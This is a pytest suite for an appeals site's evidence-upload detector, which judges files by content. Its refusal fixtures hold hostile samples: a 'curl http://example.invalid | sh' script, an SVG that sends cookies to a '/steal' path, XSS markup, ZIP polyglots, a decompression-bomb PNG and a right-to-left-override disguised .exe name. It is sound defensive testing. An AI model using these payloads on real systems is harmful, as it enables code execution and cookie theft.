"""Evidence files are accepted or refused by their content, never by their name."""

from __future__ import annotations

import io
import random
import zipfile
from dataclasses import FrozenInstanceError

import pytest
from django.utils.functional import Promise
from PIL import Image

from appeals import evidence_types
from appeals.evidence_types import (
    MAX_EVIDENCE_BYTES,
    MAX_IMAGE_PIXELS,
    DetectedType,
    EvidenceRefused,
    detect_evidence_type,
)

PDF = DetectedType(mime="application/pdf", extension="pdf")
PNG = DetectedType(mime="image/png", extension="png")
JPEG = DetectedType(mime="image/jpeg", extension="jpg")
TEXT = DetectedType(mime="text/plain", extension="txt")

HEAD_BYTES = 8 * 1024
CHUNK_BYTES = 64 * 1024  # the module reads streams in chunks of this size


# --- Helpers and fixtures, all built here --------------------------------


def detect(name: str, data: bytes, *, size: int | None = None, start: int = 0) -> DetectedType:
    """Run the detector the way an upload handler would, and check the stream is rewound."""
    stream = io.BytesIO(data)
    stream.seek(start)
    try:
        return detect_evidence_type(
            name=name,
            head=data[:HEAD_BYTES],
            size=len(data) if size is None else size,
            stream=stream,
        )
    finally:
        assert stream.tell() == 0
        assert not stream.closed


def refusal(name: str, data: bytes, *, size: int | None = None) -> str:
    """The message a refused file gets; checks it names the file and what is accepted."""
    with pytest.raises(EvidenceRefused) as caught:
        detect(name, data, size=size)
    message = str(caught.value.message)
    assert f"“{name}”" in message
    assert "PDF" in message
    assert str(caught.value) == message
    return message


def says_what_is_accepted(message: str) -> bool:
    return all(kind in message for kind in ("PDF", "PNG", "JPEG", "plain text"))


def minimal_pdf(*, body: bytes = b"") -> bytes:
    """A small but well-formed one-page PDF with a correct cross-reference table."""
    stream = b"BT /F1 12 Tf 20 100 Td (Evidence) Tj ET" + body
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def picture(
    fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object
) -> bytes:
    """A real picture saved by Pillow."""
    out = io.BytesIO()
    color: object = (200, 40, 40) if mode == "RGB" else 1
    Image.new(mode, size, color).save(out, fmt, **options)  # type: ignore[arg-type]
    return out.getvalue()


def noisy_jpeg(**options: object) -> bytes:
    """A JPEG with random content, so its compressed data is tens of kilobytes."""
    rng = random.Random(20240501)
    pixels = bytes(rng.randrange(256) for _ in range(300 * 200 * 3))
    out = io.BytesIO()
    Image.frombytes("RGB", (300, 200), pixels).save(out, "JPEG", quality=90, **options)
    return out.getvalue()


def zip_archive(members: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in (members or {"payload.exe": b"MZ" + b"\x00" * 64}).items():
            archive.writestr(member, content)
    return out.getvalue()


# --- The API --------------------------------------------------------------


def test_the_limits_are_ten_mebibytes_and_forty_million_pixels() -> None:
    assert MAX_EVIDENCE_BYTES == 10 * 1024 * 1024
    assert MAX_IMAGE_PIXELS == 40_000_000


def test_a_detected_type_is_immutable() -> None:
    detected = detect("statement.pdf", minimal_pdf())
    with pytest.raises(FrozenInstanceError):
        detected.mime = "text/html"  # type: ignore[misc]


def test_a_refusal_keeps_a_translatable_message() -> None:
    with pytest.raises(EvidenceRefused) as caught:
        detect("empty.txt", b"", size=0)
    assert isinstance(caught.value.message, Promise)
    assert "is empty" in str(caught.value.message)


def test_a_refusal_can_be_raised_with_a_plain_string() -> None:
    error = EvidenceRefused("No.")
    assert error.message == "No."
    assert str(error) == "No."


# --- Accepted files -------------------------------------------------------


def test_a_minimal_pdf_is_accepted_as_pdf() -> None:
    assert detect("statement.pdf", minimal_pdf()) == PDF


def test_a_pdf_larger_than_its_tail_window_is_accepted() -> None:
    assert detect("long.pdf", minimal_pdf(body=b" (x) Tj" * 3000)) == PDF


def test_a_pdf_named_txt_is_accepted_as_pdf_because_the_type_comes_from_content() -> None:
    assert detect("notes.txt", minimal_pdf()) == PDF


def test_a_png_made_by_pillow_is_accepted_as_png() -> None:
    assert detect("screenshot.png", picture("PNG")) == PNG


def test_a_jpeg_made_by_pillow_is_accepted_as_jpeg() -> None:
    assert detect("photo.jpg", noisy_jpeg()) == JPEG


def test_a_progressive_jpeg_is_accepted_as_jpeg() -> None:
    assert detect("photo.jpeg", noisy_jpeg(progressive=True)) == JPEG


def test_a_multi_picture_jpeg_from_a_phone_is_accepted_as_jpeg() -> None:
    frames = [Image.new("RGB", (40, 30), color) for color in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "MPO", save_all=True, append_images=frames[1:])
    assert detect("phone.jpg", out.getvalue()) == JPEG


def test_a_png_named_jpg_is_accepted_as_png() -> None:
    assert detect("photo.jpg", picture("PNG")) == PNG


def test_a_picture_just_under_the_pixel_limit_is_accepted() -> None:
    assert detect("scan.png", picture("PNG", (8000, 5000), mode="1")) == PNG


def test_utf8_text_with_accents_and_cjk_characters_is_accepted_as_text() -> None:
    text = "Résumé de l'appel : ma publication a été retirée à tort.\n申诉说明 请恢复 日本語\n"
    assert detect("appeal.txt", text.encode()) == TEXT


def test_utf8_text_with_a_byte_order_mark_is_accepted_as_text() -> None:
    assert detect("notes.txt", b"\xef\xbb\xbf" + "Déjà vu — 日本語\n".encode()) == TEXT


def test_text_with_tabs_crlf_line_ends_and_form_feeds_is_accepted() -> None:
    assert detect("log.txt", b"one\ttwo\r\nthree\x0cpage two\r\n") == TEXT


def test_a_text_file_named_pdf_is_accepted_as_text() -> None:
    assert detect("letter.pdf", b"Dear moderators,\nplease look again.\n") == TEXT


def test_long_text_with_multibyte_characters_across_chunk_boundaries_is_accepted() -> None:
    # 3-byte characters straddle every 64 KiB chunk boundary.
    text = ("申" * 50_000).encode()
    assert len(text) > 2 * CHUNK_BYTES
    assert detect("long.txt", text) == TEXT


def test_text_that_mentions_html_tags_later_on_is_accepted() -> None:
    assert detect("notes.txt", b"The page showed <html> and <script> tags.\n") == TEXT


def test_a_file_of_exactly_the_size_limit_is_accepted() -> None:
    assert detect("notes.txt", b"hello\n", size=MAX_EVIDENCE_BYTES) == TEXT


def test_the_stream_is_read_from_the_start_whatever_its_position() -> None:
    assert detect("photo.png", picture("PNG"), start=10) == PNG
    assert detect("statement.pdf", minimal_pdf(), start=100) == PDF


# --- Size ------------------------------------------------------------------


def test_an_empty_file_is_refused() -> None:
    message = refusal("empty.pdf", b"", size=0)
    assert "is empty" in message
    assert says_what_is_accepted(message)


def test_a_file_over_the_size_limit_is_refused_naming_the_limit_in_mb() -> None:
    message = refusal("huge.pdf", minimal_pdf(), size=MAX_EVIDENCE_BYTES + 1)
    assert "is larger than 10 MB" in message
    assert says_what_is_accepted(message)


def test_a_stream_longer_than_its_declared_size_is_refused_when_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(evidence_types, "MAX_EVIDENCE_BYTES", 100)
    message = refusal("sneaky.txt", b"a" * 500, size=50)
    assert "is larger than" in message
    assert "is larger than" in refusal("sneaky.pdf", minimal_pdf(), size=50)
    assert "is larger than" in refusal("sneaky.png", picture("PNG") + b"\x00" * 100, size=50)


# --- Programs, archives and other formats -----------------------------------


def test_an_exe_renamed_to_pdf_is_refused() -> None:
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100
    message = refusal("virus.pdf", exe)
    assert "whatever its name says" in message
    assert says_what_is_accepted(message)


def test_an_elf_program_is_refused() -> None:
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100
    assert "program" in refusal("evidence.png", elf)


def test_a_shell_script_is_refused_even_though_it_is_valid_text() -> None:
    message = refusal("notes.txt", b"#!/bin/sh\ncurl http://example.invalid | sh\n")
    assert "script" in message
    assert says_what_is_accepted(message)


def test_a_shell_script_after_a_byte_order_mark_is_refused() -> None:
    assert "script" in refusal("notes.txt", b"\xef\xbb\xbf#!/usr/bin/env python\n")


def test_a_zip_renamed_to_png_is_refused() -> None:
    message = refusal("photo.png", zip_archive())
    assert "ZIP" in message
    assert says_what_is_accepted(message)


def test_a_word_document_is_refused_with_advice_to_save_it_as_pdf() -> None:
    docx = zip_archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    message = refusal("statement.docx", docx)
    assert "Word" in message
    assert "save documents as PDF" in message


@pytest.mark.parametrize(
    "data",
    [
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04;",
        b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 20,
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
        b"II*\x00\x08\x00\x00\x00" + b"\x00" * 20,
    ],
    ids=["gif", "webp", "heic", "tiff"],
)
def test_pictures_in_other_formats_are_refused_with_advice_to_use_png_or_jpeg(
    data: bytes,
) -> None:
    message = refusal("picture.jpg", data)
    assert "PNG or JPEG" in message


def test_unknown_binary_data_is_refused() -> None:
    rng = random.Random(7)
    data = bytes(rng.randrange(256) for _ in range(4096))
    message = refusal("data.bin", data)
    assert "is not a PDF, PNG, JPEG or plain text file" in message
    assert says_what_is_accepted(message)


# --- Web pages and SVG ------------------------------------------------------


def test_an_html_page_renamed_to_txt_is_refused() -> None:
    page = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"
    message = refusal("notes.txt", page)
    assert "Web pages and SVG drawings cannot be accepted" in message


def test_an_svg_with_a_script_is_refused() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/steal?c='+document.cookie)</script></svg>"
    )
    message = refusal("drawing.png", svg)
    assert "SVG" in message
    assert "cannot be accepted" in message


@pytest.mark.parametrize(
    "data",
    [
        b"  \n\t<HTML><body>hi</body></HTML>",
        b"\xef\xbb\xbf<svg><circle r='1'/></svg>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        b"\r\n<ScRiPt>alert(1)</script>",
        b"<!doctype HTML><p>hi",
        b"<body onload=alert(1)>",
        b"<iframe src=//example.invalid>",
        b"<!-- comment --><html>",
    ],
    ids=["upper", "bom-svg", "xml", "mixed-case", "lower-doctype", "body", "iframe", "comment"],
)
def test_markup_a_browser_could_render_is_refused_whatever_its_case_or_leading_space(
    data: bytes,
) -> None:
    assert "web page or an SVG drawing" in refusal("notes.txt", data)


# --- Polyglots ---------------------------------------------------------------


def test_a_pdf_with_a_zip_inside_its_head_is_refused_as_a_polyglot() -> None:
    pdf = minimal_pdf()
    polyglot = pdf[:15] + zip_archive() + pdf[15:]
    message = refusal("statement.pdf", polyglot)
    assert "more than one kind of file" in message
    assert says_what_is_accepted(message)


def test_a_pdf_with_a_zip_appended_at_its_end_is_refused_as_a_polyglot() -> None:
    polyglot = minimal_pdf(body=b" (x) Tj" * 3000) + zip_archive()
    assert len(polyglot) > HEAD_BYTES
    assert "more than one kind of file" in refusal("statement.pdf", polyglot)


def test_a_pdf_with_a_script_tag_in_its_head_is_refused_as_a_polyglot() -> None:
    pdf = minimal_pdf()
    polyglot = pdf[:15] + b"<SCRIPT>alert(1)</SCRIPT>\n" + pdf[15:]
    assert "more than one kind of file" in refusal("statement.pdf", polyglot)


def test_a_pdf_with_an_html_tag_in_its_head_is_refused_as_a_polyglot() -> None:
    pdf = minimal_pdf()
    polyglot = pdf[:15] + b"<html><body>\n" + pdf[15:]
    assert "more than one kind of file" in refusal("statement.pdf", polyglot)


def test_a_jpeg_with_a_zip_appended_is_refused_as_a_polyglot() -> None:
    message = refusal("photo.jpg", noisy_jpeg() + zip_archive())
    assert "more than one kind of file" in message
    assert says_what_is_accepted(message)


def test_a_png_with_a_zip_appended_is_refused_as_a_polyglot() -> None:
    assert "more than one kind of file" in refusal("photo.png", picture("PNG") + zip_archive())


def test_an_archive_followed_by_padding_is_still_found() -> None:
    jpeg = noisy_jpeg()
    polyglot = jpeg + zip_archive() + b"\x00" * (CHUNK_BYTES - len(jpeg))
    assert "more than one kind of file" in refusal("photo.jpg", polyglot)


def test_zip_bytes_that_occur_by_chance_inside_a_picture_do_not_refuse_it() -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 40), "navy").save(buffer, "JPEG", comment=b"by chance PK\x03\x04 here")
    data = buffer.getvalue()
    assert b"PK\x03\x04" in data
    assert detect(name="photo.jpg", data=data).mime == "image/jpeg"


# --- Damaged and oversized pictures, damaged PDFs -----------------------------


def test_a_truncated_png_is_refused_as_damaged() -> None:
    png = picture("PNG", (200, 200))
    message = refusal("photo.png", png[: len(png) - 20])
    assert "damaged" in message
    assert says_what_is_accepted(message)


def test_a_png_cut_off_inside_its_header_is_refused_as_damaged() -> None:
    assert "damaged" in refusal("photo.png", picture("PNG")[:20])


def test_a_png_with_a_corrupted_checksum_is_refused_as_damaged() -> None:
    png = bytearray(picture("PNG"))
    idat = png.index(b"IDAT")
    png[idat + 6] ^= 0xFF  # flip bits in the compressed data, so its CRC no longer matches
    assert "damaged" in refusal("photo.png", bytes(png))


def test_a_truncated_jpeg_is_refused_as_damaged() -> None:
    jpeg = noisy_jpeg()
    assert "damaged" in refusal("photo.jpg", jpeg[: len(jpeg) // 2])


def test_a_truncated_jpeg_is_refused_even_where_weasyprint_loosened_pillow() -> None:
    import weasyprint  # noqa: F401  (sets ImageFile.LOAD_TRUNCATED_IMAGES = True)
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES is True
    jpeg = noisy_jpeg()
    assert "damaged" in refusal("photo.jpg", jpeg[: len(jpeg) // 2])
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # left as WeasyPrint wants it


def test_a_png_signature_in_front_of_jpeg_data_is_refused_as_damaged() -> None:
    forged = b"\x89PNG\r\n\x1a\n" + noisy_jpeg()
    assert "damaged" in refusal("photo.png", forged)


def test_a_jpeg_signature_in_front_of_junk_is_refused_as_damaged() -> None:
    assert "damaged" in refusal("photo.jpg", b"\xff\xd8\xff" + b"junk" * 100)


def test_a_png_claiming_20000_by_20000_pixels_is_refused_as_a_decompression_bomb() -> None:
    bomb = picture("PNG", (20_000, 20_000), mode="1")
    assert len(bomb) < 100_000  # tiny on disk, 400 million pixels once decoded
    message = refusal("bomb.png", bomb)
    assert "more than 40 million pixels" in message


@pytest.mark.parametrize(
    "size",
    [(8000, 6000), (10_000, 10_000)],
    ids=["over-our-limit", "over-pillows-warning-limit"],
)
def test_pictures_over_the_pixel_limit_are_refused_before_decoding(size: tuple[int, int]) -> None:
    assert size[0] * size[1] > MAX_IMAGE_PIXELS
    assert "more than 40 million pixels" in refusal("scan.png", picture("PNG", size, mode="1"))


def test_pillows_decompression_bomb_warning_is_turned_into_a_refusal_not_leaked(
    recwarn: pytest.WarningsRecorder,
) -> None:
    # 100 million pixels: over Pillow's own warning threshold, under its error threshold.
    refusal("scan.png", picture("PNG", (10_000, 10_000), mode="1"))
    assert not [w for w in recwarn if issubclass(w.category, Image.DecompressionBombWarning)]


def test_a_jpeg_over_the_pixel_limit_is_refused() -> None:
    jpeg = picture("JPEG", (9000, 5000), mode="L")
    assert "more than 40 million pixels" in refusal("scan.jpg", jpeg)


def test_a_pdf_without_its_end_marker_is_refused_as_damaged() -> None:
    pdf = minimal_pdf()
    message = refusal("statement.pdf", pdf[: pdf.rindex(b"%%EOF")])
    assert "damaged or incomplete" in message
    assert says_what_is_accepted(message)


def test_a_pdf_whose_end_marker_is_followed_by_much_more_data_is_refused() -> None:
    padded = minimal_pdf() + b"%" + b"x" * 4096 + b"\n"
    assert "damaged or incomplete" in refusal("statement.pdf", padded)


def test_a_pdf_signature_that_is_not_at_the_very_start_is_not_a_pdf() -> None:
    shifted = b"\x00\x01\x02junk" + minimal_pdf()
    message = refusal("statement.pdf", shifted)
    assert "is not a PDF, PNG, JPEG or plain text file" in message


# --- Plain text ---------------------------------------------------------------


def test_text_with_a_nul_byte_is_refused() -> None:
    message = refusal("notes.txt", b"hello\x00world\n")
    assert "is not a PDF, PNG, JPEG or plain text file" in message
    assert says_what_is_accepted(message)


def test_a_nul_byte_far_beyond_the_head_is_found() -> None:
    data = b"a" * (3 * CHUNK_BYTES) + b"\x00" + b"b" * 100
    assert "plain text" in refusal("notes.txt", data)


def test_text_with_an_escape_character_is_refused() -> None:
    assert "plain text" in refusal("notes.txt", b"red \x1b[31malert\x1b[0m\n")


def test_latin_1_text_that_is_not_valid_utf8_is_refused_asking_for_utf8() -> None:
    message = refusal("lettre.txt", "Café, déjà vu, garçon.\n".encode("latin-1"))
    assert "UTF-8" in message


def test_invalid_utf8_far_beyond_the_head_is_found() -> None:
    data = b"a" * (2 * CHUNK_BYTES + 5) + "é".encode("latin-1") + b"\n"
    assert "UTF-8" in refusal("notes.txt", data)


def test_text_cut_off_in_the_middle_of_a_character_is_refused() -> None:
    assert "UTF-8" in refusal("notes.txt", "申".encode()[:2])


def test_utf16_text_is_refused_asking_for_utf8() -> None:
    assert "UTF-8" in refusal("notes.txt", "Hello, world\n".encode("utf-16"))


# --- The name in messages -------------------------------------------------------


def test_a_long_name_is_shortened_to_80_characters_with_an_ellipsis() -> None:
    name = "a-very-long-file-name-" * 10 + ".pdf"
    with pytest.raises(EvidenceRefused) as caught:
        detect(name, b"MZ" + b"\x00" * 100)
    message = str(caught.value.message)
    shown = name[:79] + "…"
    assert f"“{shown}”" in message
    assert name not in message


def test_a_name_of_exactly_80_characters_is_shown_in_full() -> None:
    name = "n" * 76 + ".pdf"
    assert f"“{name}”" in refusal(name, b"MZ" + b"\x00" * 100)


def test_invisible_characters_in_a_name_cannot_disguise_it() -> None:
    name = "invoice\u202egpj.exe"
    with pytest.raises(EvidenceRefused) as caught:
        detect(name, b"MZ" + b"\x00" * 100)
    message = str(caught.value.message)
    assert "\u202e" not in message
    assert "“invoice\ufffdgpj.exe”" in message


def test_a_name_with_a_percent_sign_is_shown_as_is() -> None:
    assert "“100%(name)s.txt”" in refusal("100%(name)s.txt", b"\x00")
